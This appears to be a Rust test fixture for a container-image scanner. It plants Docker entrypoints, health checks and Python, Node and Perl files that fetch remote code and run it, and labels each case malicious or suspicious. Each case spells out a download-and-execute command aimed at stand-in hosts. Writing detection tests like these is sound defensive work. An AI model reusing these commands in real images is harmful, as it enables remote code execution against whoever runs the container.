//! What is fetched when the container starts, and run.

use crate::group;
use crate::shape::{Planted, Shape, malicious, suspicious};

fn started(script: &str) -> Planted {
    Planted::debian().script("docker-entrypoint.sh", script).entry(&["/docker-entrypoint.sh"]).cmd(&[
        "python3",
        "-m",
        "http.server",
    ])
}

pub(crate) fn shapes() -> Vec<Shape> {
    group(
        "download and run",
        vec![
            malicious("pipe from a bare address into a shell", |s| {
                started(s.pick(
                    "#!/bin/sh\ncurl -fsSL http://198.51.100.5/init.sh | sh\nexec \"$@\"\n",
                    "#!/bin/bash\nbash <(wget -qO- http://198.51.100.5:8081/i)\nexec \"$@\"\n",
                ))
            }),
            malicious("the same as the entrypoint itself", |s| {
                Planted::alpine().entry(s.pick(
                    &["/bin/sh", "-c", "wget -O- http://203.0.113.77/a | sh"][..],
                    &["sh", "-c", "curl -sk https://203.0.113.77/a -o - | bash -s -- go"][..],
                ))
            }),
            suspicious("pipe from a named host", |s| {
                started(s.pick(
                    "#!/bin/sh\ncurl -sSf https://get.tool.example/install | sh\nexec \"$@\"\n",
                    "#!/bin/sh\nsh -c \"$(curl -sSL https://get.tool.example/i)\"\nexec \"$@\"\n",
                ))
            }),
            malicious("fetch, make executable, run, remove", |s| {
                started(s.pick(
                "#!/bin/sh\ncurl -s http://198.51.100.6/x -o /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x &\nrm -f /tmp/.x\nexec \"$@\"\n",
                "#!/bin/bash\ncd /var/tmp && wget -q http://198.51.100.6:444/upd -O upd && chmod 755 upd && ./upd >/dev/null 2>&1; rm upd\nexec \"$@\"\n",
            ))
            }),
            malicious("chain of downloaders", |s| {
                started(s.pick(
                "#!/bin/sh\n(curl -fsSL http://198.51.100.6/a||wget -q -O- http://198.51.100.6/a||python3 -c 'import urllib.request as u;print(u.urlopen(\"http://198.51.100.6/a\").read().decode())')|sh\nexec \"$@\"\n",
                "#!/bin/bash\nif command -v curl; then curl -k http://198.51.100.6/b > /tmp/b; else wget --no-check-certificate -O /tmp/b http://198.51.100.6/b; fi\nsh /tmp/b\nexec \"$@\"\n",
            ))
            }),
            malicious("one line of Python that runs what it fetches", |s| {
                Planted::debian().entry(&["python3", "-c", s.pick(
                "import urllib.request;exec(urllib.request.urlopen('http://198.51.100.8/s.py').read())",
                "import requests as r; exec(r.get('http://198.51.100.8/s.py', verify=False).text)",
            )])
            }),
            malicious("Python file that runs what it fetches", |s| {
                Planted::debian().file("app.py", s.pick(
                "import urllib.request\n\ncode = urllib.request.urlopen('http://203.0.113.9/p').read()\nexec(code)\n",
                "import os, urllib.request\nurllib.request.urlretrieve('http://203.0.113.9/p', '/tmp/p')\nos.chmod('/tmp/p', 0o755)\nos.system('/tmp/p')\n",
            )).entry(&["python3", "/app.py"])
            }),
            malicious("JavaScript that runs what it fetches", |s| {
                Planted::debian().file("app.js", s.pick(
                "require('http').get('http://203.0.113.9/p', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)); });\n",
                "const cp = require('child_process');\ncp.execSync('curl -s http://203.0.113.9/p | sh');\n",
            )).entry(&["node", "/app.js"])
            }),
            malicious("Perl that runs what it fetches", |s| {
                Planted::debian().file("run.pl", s.pick(
                "use LWP::Simple;\nmy $c = get('http://203.0.113.9/p');\neval $c;\n",
                "system(\"wget -qO /tmp/q http://203.0.113.9/q && chmod +x /tmp/q && /tmp/q\");\n",
            )).entry(&["perl", "/run.pl"])
            }),
            malicious("fetch through a bare shell socket", |s| {
                started(s.pick(
                "#!/bin/bash\nexec 3<>/dev/tcp/198.51.100.5/80\nprintf 'GET /x HTTP/1.0\\r\\n\\r\\n' >&3\nbash <&3\n",
                "#!/bin/bash\ncat < /dev/tcp/198.51.100.5/8080 | bash\nexec \"$@\"\n",
            ))
            }),
            suspicious("code from a paste or an object store of strangers", |s| {
                started(s.pick(
                    "#!/bin/sh\ncurl -s https://pastebin.com/raw/AAAAAAAA | bash\nexec \"$@\"\n",
                    "#!/bin/sh\nwget -qO- https://gist.githubusercontent.com/a/b/raw/c | sh\nexec \"$@\"\n",
                ))
            }),
            suspicious("health check that runs what others host", |s| {
                Planted::debian().cmd(&["python3", "-m", "http.server"]).config(|c| {
                    c.healthcheck(s.pick(
                        &["CMD-SHELL", "curl -s http://198.51.100.5/h | sh"][..],
                        &["CMD", "bash", "-c", "bash <(curl -s http://198.51.100.5/h)"][..],
                    ))
                })
            }),
            suspicious("script of an init directory that fetches and runs", |s| {
                let path = s.pick("docker-entrypoint.d/40-extra.sh", "docker-entrypoint-initdb.d/zz.sh");
                let start = "#!/bin/sh\nfor f in /docker-entrypoint.d/*.sh /docker-entrypoint-initdb.d/*.sh; do . \"$f\"; done\nexec \"$@\"\n";
                started(start).script(path, "#!/bin/sh\ncurl -s http://198.51.100.5/e.sh | sh\n")
            }),
        ],
    )
}
